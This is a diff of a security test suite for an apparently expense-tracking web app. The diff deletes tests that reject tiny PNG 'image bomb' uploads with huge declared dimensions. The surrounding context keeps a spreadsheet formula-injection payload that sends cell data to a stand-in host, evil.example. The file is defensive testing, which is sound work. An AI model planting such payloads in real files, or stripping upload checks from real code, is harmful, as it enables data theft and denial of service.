@@ -4,7 +4,7 @@ import { readSheet } from 'read-excel-file/node';
 import { sendRaw, expectNoChange } from './testing/attack.js';
 import { startOwnCompany, type Company, type Person } from './testing/company.js';
 import { fileOf, pdf } from './testing/receipt-files.js';
-import { IMPOSTORS, pngOf, POLYGLOTS } from './testing/malicious-files.js';
+import { IMPOSTORS, POLYGLOTS } from './testing/malicious-files.js';
 
 const TRICKS = [
   '=HYPERLINK("http://evil.example?"&A1,"x")',
@@ -72,25 +72,6 @@ describe('attacks with files and file names', () => {
       }
     },
   );
-
-  it.each([
-    ['60,000 × 60,000', 60_000, 60_000],
-    ['30,001 × 1', 30_001, 1],
-    ['8,000 × 8,001', 8_000, 8_001],
-    ['2,147,483,647 × 2,147,483,647', 2_147_483_647, 2_147_483_647],
-    ['no size', 0, 0],
-  ])('a small file with the header of an image of %s: rejected', async (_, width, height) => {
-    const bomb = pngOf(width, height);
-    expect(bomb.length).toBeLessThan(500);
-    const file = () => fileOf(bomb, 'photo.png', 'image/png');
-    const { mia: as } = company;
-    expect(await expectError('POST', '/api/expenses', { as, form: company.form({}, file()) })).toMatchObject({
-      status: 400,
-    });
-    expect(await expectError('POST', '/api/uploads', { as, form: upload(file()) })).toMatchObject({ status: 400 });
-    const fair = await company.claim({}, { receipt: fileOf(pngOf(8_160, 6_144, 6_144), 'photo.png', 'image/png') });
-    expect(fair.receipt).toMatch(/\.png$/);
-  });
 
   it.each([
     '..',
